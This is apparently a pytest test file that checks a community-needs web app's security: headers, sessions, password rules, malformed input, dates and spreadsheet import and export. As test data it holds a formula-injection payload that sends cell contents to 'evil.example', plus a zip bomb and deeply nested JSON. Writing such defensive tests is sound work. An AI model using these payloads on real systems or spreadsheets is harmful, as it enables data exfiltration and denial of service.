"""Headers, sessions, passwords, spreadsheets and bad input: each class answers as a careful server should."""

import io
import time
import zipfile
from datetime import timedelta

from openpyxl import load_workbook

from factories import PASSWORD, login, make_need, make_world
from jinlin.core import clock
from jinlin.core.settings import SettingsError, load_settings
from jinlin.needs.tables import Need


async def test_pages_and_the_api_carry_the_security_headers(client):
    for path in ("/login", "/api/v1/categories", "/healthz"):
        headers = (await client.get(path)).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "same-origin"
        assert "script-src 'self'" in headers["content-security-policy"]
        assert "frame-ancestors 'none'" in headers["content-security-policy"]


async def test_a_password_change_ends_every_other_session_but_the_current_one(client):
    w = await make_world()
    other = await login(client, "grid_a")
    current = await login(client, "grid_a")
    r = await client.patch(
        f"/api/v1/accounts/{w.accounts['grid_a']}",
        headers=current,
        json={"password": "a-much-better-one", "current_password": PASSWORD},
    )
    assert r.status_code == 200, r.text
    assert (await client.get("/api/v1/me", headers=current)).status_code == 200
    assert (await client.get("/api/v1/me", headers=other)).status_code == 401


async def test_a_reset_by_an_administrator_ends_all_the_accounts_sessions(client):
    w = await make_world()
    mine = await login(client, "grid_a")
    admin = await login(client, "admin_a")
    r = await client.patch(
        f"/api/v1/accounts/{w.accounts['grid_a']}", headers=admin, json={"password": "reset-by-admin-1"}
    )
    assert r.status_code == 200, r.text
    assert (await client.get("/api/v1/me", headers=mine)).status_code == 401
    assert (await client.get("/api/v1/me", headers=admin)).status_code == 200


async def test_short_common_or_username_passwords_are_refused(client):
    w = await make_world()
    admin = await login(client, "admin_a")
    for password, why in (
        ("short-1", "password"),
        ("1234567890", "password"),
        ("password123", "password"),
        ("grid_new1", "password"),
    ):
        r = await client.post(
            "/api/v1/accounts",
            headers=admin,
            json={
                "username": "grid_new",
                "password": password,
                "memberships": [{"organization_id": w.orgs["comm_a"]["id"], "role": "grid_worker"}],
            },
        )
        assert r.status_code == 400 and why in r.json()["error"]["fields"], (password, r.text)


def test_the_docker_compose_placeholder_secret_stops_start_up():
    import pytest

    with pytest.raises(SettingsError, match="JINLIN_SECRET_KEY"):
        load_settings({"JINLIN_SECRET_KEY": "change-me-to-a-long-random-secret-of-48-chars"})


async def test_exported_cells_that_look_like_formulas_are_text(client):
    w = await make_world()
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    await make_need("admin_a", w.orgs["comm_a"], title=evil, description="+1+2")
    r = await client.get("/api/v1/needs/export.xlsx", headers=await login(client, "admin_a"))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (evil, "+1+2")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


async def test_a_zip_bomb_is_refused_within_seconds(client):
    await make_world()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (200 * 1024 * 1024))
    started = time.monotonic()
    r = await client.post(
        "/api/v1/needs/import",
        headers=await login(client, "admin_a"),
        files={"file": ("bomb.xlsx", buffer.getvalue(), "application/octet-stream")},
    )
    assert r.status_code == 400 and "file" in r.json()["error"]["fields"]
    assert time.monotonic() - started < 5
    assert await Need.count() == 0


async def test_import_cells_that_are_not_finite_numbers_are_refused(client):
    await make_world()
    csv = "标题,类别,数量,单位\n送餐,elder_care,inf,份\n修路,home_repair,1e400,米\n".encode()
    r = await client.post(
        "/api/v1/needs/import", headers=await login(client, "admin_a"), files={"file": ("needs.csv", csv, "text/csv")}
    )
    assert r.status_code == 400
    assert await Need.count() == 0


async def test_out_of_range_ids_nul_and_deep_nesting_answer_4xx_naming_the_field(client):
    w = await make_world()
    h = await login(client, "admin_a")
    huge = 18446744073709551615
    assert (await client.delete(f"/api/v1/areas/{huge}", headers=h)).status_code == 404
    r = await client.get(f"/api/v1/accounts?organization_id={huge}", headers=h)
    assert r.status_code == 400 and "organization_id" in r.json()["error"]["fields"]
    r = await client.get("/api/v1/needs?offset=100000000000000000000", headers=h)
    assert r.status_code == 400 and "offset" in r.json()["error"]["fields"]
    r = await client.get("/api/v1/needs?colur=red", headers=h)
    assert r.status_code == 400 and r.json()["error"]["fields"] == {"colur": "unknown query parameter"}
    body = {"community_id": w.orgs["comm_a"]["id"], "title": "a\x00b", "category": "other", "quantity": 1}
    r = await client.post("/api/v1/needs", headers=h, json=body)
    assert r.status_code == 400 and "title" in r.json()["error"]["fields"]
    r = await client.post(
        "/api/v1/needs", headers={**h, "content-type": "application/json"}, content=b"[" * 100_000 + b"]" * 100_000
    )
    assert r.status_code == 400
    assert await Need.count() == 0


async def test_naive_and_far_out_date_times_are_refused_everywhere(client):
    w = await make_world()
    h = await login(client, "admin_a")
    base = {"community_id": w.orgs["comm_a"]["id"], "title": "t", "category": "other", "quantity": 1}
    for value in ("2026-12-01T09:00:00", "9999-12-31T00:00:00+08:00", "0001-01-01T00:00:00+14:00"):
        r = await client.post("/api/v1/needs", headers=h, json={**base, "respond_by": value})
        assert r.status_code == 400 and "respond_by" in r.json()["error"]["fields"], (value, r.text)
    r = await client.post(
        f"/api/v1/volunteers/{w.accounts['volunteer']}/hours",
        headers=await login(client, "leader"),
        json={"hours": 2, "reason": "x", "served_on": "9999-12-31T00:00:00+08:00"},
    )
    assert r.status_code == 400 and "served_on" in r.json()["error"]["fields"]
    assert await Need.count() == 0


async def test_a_far_future_date_already_stored_does_not_break_the_pages(client):
    w = await make_world()
    need = await make_need("admin_a", w.orgs["comm_a"])
    far = clock.now().replace(year=9999, month=12, day=31) - timedelta(days=1)
    await Need.update({Need.resolve_by: far, Need.respond_by: far}).where(Need.id == need.id)
    h = await login(client, "admin_a")
    for path in ("/needs", f"/needs/{need.id}", "/", "/reports"):
        r = await client.get(path, headers={"cookie": f"jinlin_session={h['Authorization'].split()[1]}"})
        assert r.status_code == 200, path
    assert (await client.get("/api/v1/needs/export.xlsx", headers=h)).status_code == 200
    assert (await client.get(f"/api/v1/needs/{need.id}", headers=h)).status_code == 200


async def test_imports_refuse_what_the_api_refuses_naming_row_and_column(client):
    await make_world()
    csv = f"标题,类别,数量,单位\n送餐,elder_care,2,{'份' * 30}\n".encode()
    r = await client.post(
        "/api/v1/needs/import", headers=await login(client, "admin_a"), files={"file": ("needs.csv", csv, "text/csv")}
    )
    assert r.status_code == 400 and r.json()["error"]["fields"] == {
        "row 2": "单位: 最多 20 个字符"
    }  # in the reader's language (issue 11)
    assert await Need.count() == 0


def test_the_local_time_filter_survives_the_edge_of_the_calendar():
    from datetime import UTC, datetime

    assert clock.local(datetime(9999, 12, 31, 23, 0, tzinfo=UTC), "%Y") == "9999"
    assert clock.local(datetime(2026, 12, 1, 1, 30), "%H:%M") == "09:30"  # naive: taken as UTC


async def test_a_large_import_does_not_block_a_concurrent_write_for_more_than_a_second(client):
    import asyncio

    w = await make_world()
    rows = "".join(f"送餐{i},elder_care,1,份\n" for i in range(2000))
    csv = ("标题,类别,数量,单位\n" + rows).encode()
    admin = await login(client, "admin_a")
    other = await login(client, "admin_b")
    waits: list[float] = []

    async def write_meanwhile():
        await asyncio.sleep(0.5)
        for _ in range(3):
            started = time.monotonic()
            r = await client.post(
                "/api/v1/needs",
                headers=other,
                json={"community_id": w.orgs["comm_b"]["id"], "title": "同时写入", "category": "other", "quantity": 1},
            )
            assert r.status_code == 201, r.text
            waits.append(time.monotonic() - started)
            await asyncio.sleep(0.2)

    imported, _ = await asyncio.gather(
        client.post("/api/v1/needs/import", headers=admin, files={"file": ("needs.csv", csv, "text/csv")}),
        write_meanwhile(),
    )
    assert imported.status_code in (200, 201), imported.text
    assert await Need.count() == 2003
    assert max(waits) < 1.0, waits


async def test_a_period_beyond_the_calendar_is_a_400(client):
    await make_world()
    r = await client.get("/api/v1/reports/kpis?period=9999", headers=await login(client, "county"))
    assert r.status_code == 400 and "period" in r.json()["error"]["fields"]
